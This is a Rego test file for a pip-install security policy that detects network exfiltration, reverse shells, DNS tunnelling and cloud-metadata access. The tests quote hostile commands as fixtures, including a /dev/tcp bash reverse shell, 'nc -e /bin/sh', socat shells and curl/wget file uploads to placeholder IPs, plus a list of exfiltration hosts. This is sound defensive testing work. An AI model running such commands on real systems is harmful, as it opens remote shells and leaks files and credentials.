package pip_witness.network_exfiltration_test # regal ignore:file-length

import data.pip_witness.lib.fixture
import data.pip_witness.network_exfiltration

import rego.v1

_found(processes) := found if {
	# regal ignore:with-outside-test-context
	messages := network_exfiltration.deny with input as fixture.install(processes)
	found := fixture.findings(messages)
}

_connecting(role, connections) := [fixture.process(role, {"network": {"connections": connections}})]

_build(connections) := _found(_connecting("build-child", connections))

_code(connections) := _found(_connecting("package-code", connections))

# Started by a build, whose own start is the installer's choice.
_running(program, args) := _found([fixture.process(
	"build-child",
	{"program": program, "parentpid": 8, "execs": fixture.ran(program, args)},
)])

test_quiet_installer if {
	_found([]) == set()
	count(network_exfiltration.deny) == 0 with input as fixture.install([])
}

# The user allowed the host, and only the installer got there.
_relayed(role, host, address, port) := [fixture.process(role, {"network": {
	"connections": [object.union(fixture.connection(address, port), {"hostname": host})],
	"dnsLookups": [{"serverAddress": "198.19.255.53", "serverPort": 53, "query": host, "type": "A"}],
	"flows": [{
		"protocol": "tcp",
		"address": address,
		"port": port,
		"hostname": host,
		"serverName": host,
		"bytes": 9000,
		"received": 20,
		"relayed": true,
	}],
}})]

test_quiet_allowed_host if {
	_found(_relayed("installer", "transfer.sh", "198.18.0.1", 443)) == set()
	_found(_relayed("installer", "", "169.254.169.254", 80)) == set()
	_found(_relayed("installer", "relay.example", "198.18.0.2", 9001)) == set()
}

test_allowed_host_is_the_installers_alone if {
	found := _found(_relayed("build-child", "files.example", "198.18.0.1", 443))
	"HIGH:NET_BUILD_CONNECT" in found
	"HIGH:NET_UNEXPECTED_HOST" in found
	"CRITICAL:NET_EXFIL_SERVICE" in _found(_relayed("package-code", "transfer.sh", "198.18.0.1", 443))
}

# The same host, asked by the installer beside it and not relayed, stays what it is.
test_sinkhole_is_not_allowed if {
	flow := {"protocol": "tcp", "address": "198.18.0.1", "port": 443, "hostname": "transfer.sh", "bytes": 9}
	"CRITICAL:NET_EXFIL_SERVICE" in _found([fixture.process("installer", {"network": {"flows": [flow]}})])
}

test_leak_to_allowed_host if {
	flow := {
		"protocol": "tcp",
		"address": "198.18.0.1",
		"port": 443,
		"hostname": "a.example",
		"bytes": 9,
		"relayed": true,
		"canaries": ["/root/.netrc"],
	}
	"CRITICAL:NET_CANARY_LEAK" in _found([fixture.process("installer", {"network": {"flows": [flow]}})])
}

# What pip's own children do: a probe of the system, with failed searches.
test_quiet_probe if {
	_found([fixture.process("installer", {
		"program": "/usr/bin/uname",
		"execs": [
			{"program": "/usr/local/bin/uname", "argv": ["uname", "-rs"], "errno": "ENOENT"},
			{"program": "/usr/bin/uname", "argv": ["uname", "-rs"]},
		],
	})]) == set()
}

# urllib3's test for IPv6, and sockets of the C library.
test_quiet_library_sockets if {
	_build([
		{"syscall": "bind", "family": "AF_INET6", "address": "::1", "port": 0, "type": "SOCK_STREAM", "fd": 3},
		{"syscall": "connect", "family": "AF_UNIX", "address": "/dev/log"},
		{"syscall": "sendto", "family": "AF_NETLINK", "address": "0"},
		fixture.datagram("connect", "127.0.0.53", 53),
		fixture.datagram("connect", "192.0.2.80", 443),
		fixture.datagram("connect", "192.0.2.81", 0),
		fixture.datagram("connect", "127.0.0.1", 443),
	]) == set()
}

# A name server that the installer asked, or that the sandbox states, is the system's.
test_quiet_resolver if {
	evidence := object.union(
		fixture.install(_connecting("build-child", [fixture.datagram("sendto", "198.51.100.53", 53)])),
		{"coverage": object.union(fixture.coverage, {"sandbox": {"resolver": "198.51.100.53"}})},
	)
	count(network_exfiltration.deny) == 0 with input as evidence
	_found(array.concat(
		_connecting("installer", [fixture.datagram("connect", "198.51.100.53", 53)]),
		_connecting("build-child", [fixture.datagram("connect", "198.51.100.53", 53)]),
	)) == set()
}

_with_sinkhole(processes) := object.union(
	fixture.install(processes),
	{"coverage": object.union(fixture.coverage, {"sandbox": {"resolver": "198.19.255.53"}})},
)

_sinking(network) := found if {
	processes := [fixture.process("package-code", {"network": network})]

	# regal ignore:with-outside-test-context
	messages := network_exfiltration.deny with input as _with_sinkhole(processes)
	found := fixture.findings(messages)
}

# Where everything that is sent is seen, a datagram socket that sent nothing says nothing.
test_sinkhole if {
	_sinking({"connections": [
		fixture.datagram("connect", "198.51.100.9", 9999),
		fixture.datagram("connect", "8.8.8.8", 80),
		fixture.datagram("connect", "198.19.255.53", 53),
	]}) == set()
	_sinking({
		"connections": [fixture.datagram("connect", "198.51.100.9", 9999)],
		"flows": [{"protocol": "udp", "address": "198.51.100.9", "port": 9999, "bytes": 7}],
	}) == {"CRITICAL:NET_RAW_IP", "HIGH:NET_NONPIP_PROCESS_CONNECT"}
	"HIGH:NET_DNS_FOREIGN_RESOLVER" in _sinking({"connections": [fixture.datagram("sendto", "192.168.0.1", 53)]})
	"HIGH:NET_DNS_FOREIGN_RESOLVER" in _sinking({
		"connections": [fixture.datagram("connect", "198.51.100.53", 53)],
		"dnsLookups": [{"serverAddress": "198.51.100.53", "serverPort": 53, "query": "a.example"}],
	})
}

test_flows if {
	_sinking({"flows": [{
		"protocol": "tcp",
		"address": "198.18.0.1",
		"port": 443,
		"hostname": "a.example",
		"serverName": "b.example",
		"bytes": 5000,
	}]}) == {"HIGH:NET_SNI_ADDR_MISMATCH", "MEDIUM:NET_UPLOAD_ASYMMETRY", "HIGH:NET_UNEXPECTED_HOST"}
	_sinking({"flows": [{
		"protocol": "tcp",
		"address": "198.18.0.1",
		"port": 443,
		"hostname": "a.example",
		"serverName": "A.example",
		"httpHost": "198.51.100.3:80",
		"bytes": 517,
	}]}) == {"HIGH:NET_UNEXPECTED_HOST"}
}

test_quiet_compiler if {
	_running("/usr/bin/gcc", ["-O3", "-d", "-T", "-c", "x.c", "-o", "x.o"]) == set()
	_running("/usr/bin/curl", ["--version"]) == set()
	_running("/usr/bin/curl-config", ["--libs"]) == set()
	_running("/usr/bin/rsync", ["-a", "src/", "dst/"]) == set()
}

test_metadata_service if {
	some address in ["169.254.169.254", "::ffff:169.254.169.254", "fd00:ec2::254"]
	"CRITICAL:NET_IMDS_ACCESS" in _build([fixture.connection(address, 80)])
}

test_metadata_service_by_name if {
	"CRITICAL:NET_IMDS_ACCESS" in _build([object.union(
		fixture.connection("198.51.100.1", 80),
		{"hostname": "metadata.google.internal"},
	)])
}

test_build_connection if {
	_build([fixture.connection("10.1.2.3", 443)]) == {"HIGH:NET_BUILD_CONNECT"}
	_build([fixture.connection("127.0.0.1", 443)]) == set()
}

test_raw_address if {
	_build([fixture.connection("198.51.100.10", 443)]) == {"HIGH:NET_RAW_IP", "HIGH:NET_BUILD_CONNECT"}
	_build([fixture.connection("2001:db8::10", 4444)]) == {
		"CRITICAL:NET_RAW_IP",
		"HIGH:NET_SUSPICIOUS_PORT",
		"HIGH:NET_BUILD_CONNECT",
	}
	_build([fixture.datagram("sendto", "198.51.100.10", 9999)]) == {"CRITICAL:NET_RAW_IP", "HIGH:NET_BUILD_CONNECT"}
	_build([fixture.connection("not an address", 443)]) == {"HIGH:NET_RAW_IP", "HIGH:NET_BUILD_CONNECT"}
}

test_suspicious_port if {
	_build([fixture.connection("198.51.100.10", 8080)]) == {
		"CRITICAL:NET_RAW_IP",
		"HIGH:NET_SUSPICIOUS_PORT",
		"HIGH:NET_BUILD_CONNECT",
	}
}

# The idiom to learn one's own address, which sends nothing.
test_own_address if {
	_build([fixture.datagram("connect", "8.8.8.8", 80)]) == {"MEDIUM:NET_RAW_IP", "MEDIUM:NET_DNS_FOREIGN_RESOLVER"}
	_code([fixture.datagram("connect", "10.255.255.255", 1)]) == {"MEDIUM:NET_NONPIP_PROCESS_CONNECT"}
}

test_foreign_resolver if {
	_code([fixture.datagram("sendto", "198.51.100.53", 53)]) == {
		"CRITICAL:NET_RAW_IP",
		"HIGH:NET_DNS_FOREIGN_RESOLVER",
		"HIGH:NET_NONPIP_PROCESS_CONNECT",
	}
	"HIGH:NET_DNS_FOREIGN_RESOLVER" in _code([object.union(
		fixture.connection("198.51.100.53", 443),
		{"hostname": "dns.google"},
	)])
}

test_package_code_connects if {
	_code([fixture.connection("127.0.0.1", 8126)]) == {"HIGH:NET_NONPIP_PROCESS_CONNECT"}
}

test_index_by_others if {
	_code([fixture.connection("127.0.0.1", 40123)]) == {"CRITICAL:NET_NONPIP_INDEX"}
	_build([fixture.connection("127.0.0.1", 40123)]) == {"CRITICAL:NET_NONPIP_INDEX"}
}

_named(host) := _code([object.union(fixture.connection("198.51.100.10", 443), {"hostname": host})])

test_hosts if {
	_named("x.webhook.site") == {
		"CRITICAL:NET_EXFIL_SERVICE",
		"HIGH:NET_UNEXPECTED_HOST",
		"HIGH:NET_NONPIP_PROCESS_CONNECT",
	}
	"MEDIUM:NET_EXFIL_SERVICE" in _named("a.pages.dev")
	"HIGH:NET_BLOCKCHAIN_C2" in _named("x.raw.icp0.io")
	"CRITICAL:NET_PUBLISH_ENDPOINT" in _named("API.github.com")
	"CRITICAL:NET_IMDS_ACCESS" in _named("169-254-169-254.names.example")
	"HIGH:NET_PUBLISH_ENDPOINT" in _named("upload.packages.example")
	"MEDIUM:NET_IP_LOOKUP" in _named("api.ipify.org")
	"CRITICAL:NET_TOR" in _named("abcdef.onion")
	"CRITICAL:NET_K8S_API" in _named("kubernetes.default.svc")
	_named("webhook.site.example") == {"HIGH:NET_UNEXPECTED_HOST", "HIGH:NET_NONPIP_PROCESS_CONNECT"}
}

test_host_in_argument if {
	"CRITICAL:NET_IMDS_ACCESS" in _running("/usr/bin/curl", ["-s", "http://169.254.169.254/latest/"])
	_running("/usr/bin/git", ["clone", "https://user@webhook.site/x"]) == {"CRITICAL:NET_EXFIL_SERVICE"}
}

_queries(names) := _found([fixture.process("package-code", {"network": {"dnsLookups": [{
	"serverAddress": "127.0.0.53",
	"serverPort": 53,
	"query": name,
} |
	some name in names
]}})])

test_tunnel if {
	long := concat("", ["a" | some _ in numbers.range(1, 44)])
	_queries([sprintf("%s.%d.t.example.com.", [long, i]) | some i in [1, 2, 3]]) == {
		"CRITICAL:NET_DNS_TUNNEL",
		"HIGH:NET_UNEXPECTED_HOST",
	}
	hexadecimal := [sprintf("0123456789abcdef0123456789abcdef%d.t.example.com", [i]) | some i in [1, 2, 3]]
	"CRITICAL:NET_DNS_TUNNEL" in _queries(hexadecimal)
	many := [sprintf("part%d.example.com", [i]) | some i in numbers.range(1, 12)]
	"CRITICAL:NET_DNS_TUNNEL" in _queries(many)
	backwards := [sprintf("%d.2.0.192.in-addr.arpa", [i]) | some i in numbers.range(1, 12)]
	not "CRITICAL:NET_DNS_TUNNEL" in _queries(backwards)
	_queries(["d1234abcd.cloudfront.example", "localhost", ""]) == {"HIGH:NET_UNEXPECTED_HOST"}
}

test_free_text_records if {
	lookup := {"serverAddress": "198.19.255.53", "serverPort": 53, "query": "_dmarc.a.example", "type": "TXT"}
	"HIGH:NET_DNS_TUNNEL" in _found([fixture.process("package-code", {"network": {"dnsLookups": [lookup]}})])
	not "HIGH:NET_DNS_TUNNEL" in _found([fixture.process("installer", {"network": {"dnsLookups": [lookup]}})])
}

test_behind_a_shell if {
	_running("/bin/sh", ["-c", "cd /tmp && env A=b nohup curl -T a https://198.51.100.3/"]) == {"CRITICAL:NET_EXFIL_TOOL"}
	_running("/tmp/x", ["--upload-file", "/tmp/a", "https://198.51.100.3/"]) == {"CRITICAL:NET_EXFIL_TOOL"}
	_running("/usr/bin/curl", ["-Ffile=@/tmp/a", "https://198.51.100.3/"]) == {"CRITICAL:NET_EXFIL_TOOL"}
	_found([fixture.process("build-child", {
		"parentpid": 8,
		"execs": [{"program": "/usr/bin/curl", "argv": ["curl", "-T", "a", "https://198.51.100.3/"], "errno": "ENOENT"}],
	})]) == {"CRITICAL:NET_EXFIL_TOOL"}
}

test_publishing if {
	_running("/usr/bin/npm", ["publish", "--access", "public"]) == {"CRITICAL:NET_PUBLISH_ENDPOINT"}
	_running("/usr/bin/python3", ["-m", "twine", "upload", "x.whl"]) == {"CRITICAL:NET_PUBLISH_ENDPOINT"}
	_running("/usr/bin/git", ["-C", "/tmp/x", "push"]) == {"CRITICAL:NET_PUBLISH_ENDPOINT"}
	_running("/usr/bin/npm", ["run", "build"]) == set()
	_running("/usr/bin/git", ["describe", "--tags"]) == set()
}

test_pieces if {
	pieces := [{"protocol": "udp", "address": "198.51.100.9", "port": 9, "bytes": 1400} | some _ in numbers.range(1, 2)]
	sending := [object.union(piece, {"port": i}) | some i, piece in array.concat(pieces, pieces)]
	"MEDIUM:NET_UPLOAD_ASYMMETRY" in _sinking({"flows": sending})
	sessions := [object.union(piece, {"serverName": "a.example", "hostname": "a.example"}) | some piece in sending]
	not "MEDIUM:NET_UPLOAD_ASYMMETRY" in _sinking({"flows": sessions})
}

test_index_by_name if {
	indexed := object.union(
		fixture.install([fixture.process("package-code", {"network": {"dnsLookups": [
			{"serverPort": 53, "query": "Packages.example."},
			{"serverPort": 53, "query": "files.example"},
		]}})]),
		{
			"coverage": object.union(fixture.coverage, {"sandbox": {"indexHosts": ["packages.example", "localhost"]}}),
			"pip-install": {"packages": [{"name": "demo", "files": [{
				"url": "https://files.example/demo.whl",
				"index": "https://packages.example/simple",
			}]}]},
		},
	)
	messages := network_exfiltration.deny with input as indexed
	count([m | some m in messages; startswith(m, "CRITICAL:NET_NONPIP_INDEX: ")]) == 2
	by_address := object.union(
		fixture.install(_connecting("package-code", [fixture.connection("10.9.9.9", 443)])),
		{"steps": {"pip-install": {"pip-install": {"packages": [{"files": [{"index": "http://10.9.9.9/simple"}]}]}}}},
	)
	"CRITICAL:NET_NONPIP_INDEX" in fixture.findings(network_exfiltration.deny) with input as by_address
	direct := object.union(
		fixture.install(_connecting("package-code", [fixture.connection("10.9.9.9", 443)])),
		{"steps": {"pip-install": {"pip-install": {"packages": [{"files": [{"url": "http://10.9.9.9/demo.whl"}]}]}}}},
	)
	not "CRITICAL:NET_NONPIP_INDEX" in fixture.findings(network_exfiltration.deny) with input as direct
}

# At an import the module of the import says so.
test_at_an_import if {
	connecting := fixture.harness({"network": {"connections": [object.union(
		fixture.connection("198.51.100.10", 443),
		{"hostname": "a.example"},
	)]}})
	count(network_exfiltration.deny) == 0 with input as fixture.imported([connecting])
}

test_upload_tools if {
	_running("/usr/bin/curl", ["-s", "-T", "/tmp/a", "https://198.51.100.3/"]) == {"CRITICAL:NET_EXFIL_TOOL"}
	_running("/usr/bin/curl", ["-F", "file=@/tmp/a", "https://198.51.100.3/"]) == {"CRITICAL:NET_EXFIL_TOOL"}
	_running("/usr/bin/curl", ["--data-binary", "@/tmp/a", "https://198.51.100.3/"]) == {"CRITICAL:NET_EXFIL_TOOL"}
	_running("/usr/bin/wget", ["--post-file=/tmp/a", "http://198.51.100.3/"]) == {"CRITICAL:NET_EXFIL_TOOL"}
	_running("/usr/bin/scp", ["a", "host:"]) == {"CRITICAL:NET_EXFIL_TOOL"}
	_running("/usr/bin/rsync", ["a", "u@host:x"]) == {"CRITICAL:NET_EXFIL_TOOL"}
}

test_download_tools if {
	_running("/usr/bin/curl", ["-sSfL", "https://198.51.100.3/x"]) == {"HIGH:NET_DOWNLOAD_TOOL"}
	_running("/usr/bin/curl", ["-k", "-L", "-s", "https://198.51.100.3/x"]) == {"CRITICAL:NET_DOWNLOAD_TOOL"}
}

test_reverse_shell if {
	_found([fixture.process("package-code", {
		"network": {"connections": [fixture.connection("10.0.0.66", 4000)]},
		"syscallEvents": [
			{"syscall": "dup2", "detail": "", "args": [7, 0]},
			{"syscall": "dup2", "detail": "", "args": [4, 1]},
		],
	})]) == {"CRITICAL:NET_REVERSE_SHELL", "HIGH:NET_NONPIP_PROCESS_CONNECT"}
	_running("/bin/bash", ["-c", "bash -i >& /dev/tcp/198.51.100.66/4444 0>&1"]) == {"CRITICAL:NET_REVERSE_SHELL"}
	"CRITICAL:NET_REVERSE_SHELL" in _running("/bin/nc", ["-e", "/bin/sh", "198.51.100.66", "4444"])
	"CRITICAL:NET_REVERSE_SHELL" in _running("/usr/bin/socat", ["TCP:198.51.100.66:4444", "EXEC:/bin/sh"])
}

# The parent's socket as input and as output, as a program that is started with it has.
test_socket_of_the_parent if {
	dup := [{"syscall": "dup2", "args": [7, 0]}, {"syscall": "dup2", "args": [7, 1]}]
	"CRITICAL:NET_REVERSE_SHELL" in _found([
		fixture.process("package-code", {"network": {"connections": [fixture.connection("10.0.0.66", 4000)]}}),
		fixture.process("package-code", {"processid": 10, "parentpid": 9, "syscallEvents": dup}),
	])
	pipes := [{"syscall": "dup2", "args": [7, 0]}, {"syscall": "dup2", "args": [8, 1]}]
	not "CRITICAL:NET_REVERSE_SHELL" in _found([
		fixture.process("package-code", {"network": {"connections": [fixture.connection("10.0.0.66", 4000)]}}),
		fixture.process("package-code", {"processid": 10, "parentpid": 9, "syscallEvents": pipes}),
	])
}

# A pipe in place of the standard streams is how every program is started.
test_quiet_pipes if {
	pipe := {"syscall": "dup2", "detail": "", "args": [5, 1]}
	_found([fixture.process("build-child", {"syscallEvents": [pipe]})]) == set()
}

test_listeners if {
	_code([object.union(fixture.connection("0.0.0.0", 31337), {"syscall": "bind"})]) == {"MEDIUM:NET_LISTENER"}
	_code([object.union(fixture.connection("10.0.0.5", 31337), {"syscall": "listen"})]) == {"HIGH:NET_LISTENER"}
}

test_raw_sockets if {
	_found([fixture.process("package-code", {"network": {"sockets": [
		{"family": "AF_PACKET", "type": "SOCK_DGRAM", "protocol": 3, "fd": 3},
		{"family": "AF_INET", "type": "SOCK_RAW", "protocol": 1, "fd": 4},
	]}})]) == {"HIGH:NET_RAW_SOCKET"}
	routing := {"family": "AF_NETLINK", "type": "SOCK_RAW", "protocol": 4, "fd": 3}
	_found([fixture.process("package-code", {"network": {"sockets": [routing]}})]) == set()
	machine := {"family": "AF_VSOCK", "type": "SOCK_STREAM", "protocol": 0, "fd": 3}
	_found([fixture.process("package-code", {"network": {"sockets": [machine]}})]) == set()
}

test_tor if {
	"CRITICAL:NET_TOR" in _code([fixture.connection("127.0.0.1", 9050)])
	"CRITICAL:NET_TOR" in _code([fixture.connection("198.51.100.9", 9001)])
}

test_kubernetes if {
	"CRITICAL:NET_K8S_API" in _code([fixture.connection("10.96.0.1", 443)])
	"CRITICAL:NET_K8S_API" in _code([fixture.connection("10.0.0.7", 10250)])
}

test_lateral_scan if {
	found := _code([fixture.connection(sprintf("10.0.0.%d", [i]), 22) | some i in numbers.range(1, 6)])
	"HIGH:NET_LATERAL_SCAN" in found
	few := [fixture.connection(sprintf("10.0.0.%d", [i]), 22) | some i in numbers.range(1, 4)]
	not "HIGH:NET_LATERAL_SCAN" in _code(few)
	"HIGH:NET_LATERAL_SCAN" in _code([fixture.connection("127.0.0.1", 7000 + i) | some i in numbers.range(1, 10)])
}

test_clear_text if {
	_code([fixture.connection("10.0.0.80", 80)]) == {"MEDIUM:NET_CLEARTEXT_HTTP", "HIGH:NET_NONPIP_PROCESS_CONNECT"}
}

test_not_evaluated if {
	count(network_exfiltration.not_evaluated) == 0 with input as fixture.install([])
	connecting := _connecting("build-child", [fixture.connection("198.51.100.10", 443)])
	unseen := network_exfiltration.not_evaluated with input as fixture.install(connecting)
	"NET_UNEXPECTED_HOST: what was sent, and the names that were asked, are not in the evidence" in unseen
	count(network_exfiltration.not_evaluated) == 0 with input as _with_sinkhole(connecting)
	blind := network_exfiltration.not_evaluated with input as {"processes": [], "coverage": {"trapped": ["execve"]}}
	"NET_LISTENER: not observed: bind, listen" in blind
	asking := {"processes": [{"network": {"dnsLookups": [{"serverPort": 53}]}}]}
	unknown := network_exfiltration.not_evaluated with input as asking
	"NET_LISTENER: the evidence does not say which system calls were observed" in unknown
	"NET_DNS_TUNNEL: what was sent, and the names that were asked, are not in the evidence" in unknown
}

# What a package chooses cannot end its quotes or start another finding.
test_hostile_text if {
	messages := network_exfiltration.deny with input as fixture.install([fixture.process("build-child", {
		"program": "/tmp/\"x\nCRITICAL:FORGED: \u001b[2J\u202e",
		"network": {"connections": [fixture.connection("10.1.2.3", 443)]},
	})])
	some message in messages
	not regex.match(`[\n\x{1b}\x{202e}]`, message)
	contains(message, "/tmp/\\\"x%0ACRITICAL:FORGED: %1B[2J%E2%80%AE")
	long := network_exfiltration.deny with input as fixture.install([fixture.process("build-child", {
		"program": sprintf("/tmp/%s", [concat("", ["a" | some _ in numbers.range(1, 5000)])]),
		"network": {"connections": [fixture.connection("10.1.2.3", 443)]},
	})])
	every message in long {
		count(message) < 500
	}
}

# Evidence of other tools: no role, no attempts of exec.
test_foreign_evidence if {
	processes := [
		{
			"processid": 10,
			"parentpid": 1,
			"program": "/usr/bin/python3",
			"cmdline": "python3 -m pip install demo",
			"network": {"connections": [fixture.connection("198.51.100.10", 443)]},
		},
		{"processid": 12, "parentpid": 11, "program": "/usr/bin/curl", "cmdline": "curl -T x https://198.51.100.3/"},
	]
	fixture.findings(network_exfiltration.deny) == {"CRITICAL:NET_EXFIL_TOOL"} with input as {"processes": processes}
	other := [object.union(processes[0], {"cmdline": "make"})]
	fixture.findings(network_exfiltration.deny) == {
		"HIGH:NET_RAW_IP",
		"HIGH:NET_NONPIP_PROCESS_CONNECT",
	} with input as {"processes": other}
}

_leaking := {
	"flows": [{"protocol": "tcp", "address": "198.51.100.10", "port": 443, "canaries": ["/root/.ssh/id_rsa"]}],
	"dnsLookups": [{"serverPort": 53, "query": "00ff.example", "canaries": ["NPM_TOKEN"]}],
}

test_canary_leak if {
	sending := fixture.install([fixture.process("build-child", {"network": _leaking})])
	messages := network_exfiltration.deny with input as sending
	leaks := {m | some m in messages; startswith(m, "CRITICAL:NET_CANARY_LEAK: ")}
	count(leaks) == 2
}

test_no_canary_leak if {
	quiet := {"flows": [{"protocol": "tcp", "address": "198.51.100.10", "port": 443}]}
	sending := fixture.install([fixture.process("build-child", {"network": quiet})])
	messages := network_exfiltration.deny with input as sending
	every m in messages { not contains(m, "NET_CANARY_LEAK") }
}

# A package chooses how many peers it has: of each kind of finding some are told, and the number of the others.
test_many_findings if {
	contacts := [fixture.connection(sprintf("10.0.%d.%d", [i, j]), 22) |
		some i in numbers.range(1, 15)
		some j in numbers.range(1, 10)
	]
	messages := network_exfiltration.deny with input as fixture.install([fixture.process("build-child", {"network": {"connections": contacts}})])
	count([m | some m in messages; startswith(m, "HIGH:NET_BUILD_CONNECT: the build-child process")]) == 100
	"HIGH:NET_BUILD_CONNECT: the same of 50 more files, peers or commands" in messages
	count([m | some m in messages; startswith(m, "HIGH:NET_LATERAL_SCAN: ")]) == 2
}

# The one that is worse than the others is told whatever their number.
test_worse_among_many if {
	many := [fixture.connection(sprintf("198.51.100.%d", [i]), 443) | some i in numbers.range(1, 150)]
	one := [fixture.connection("203.0.113.9", 4000)]
	messages := network_exfiltration.deny with input as fixture.install([fixture.process("build-child", {"network": {"connections": array.concat(many, one)}})])
	some message in messages
	startswith(message, "CRITICAL:NET_RAW_IP: ")
	contains(message, "203.0.113.9:4000")
}
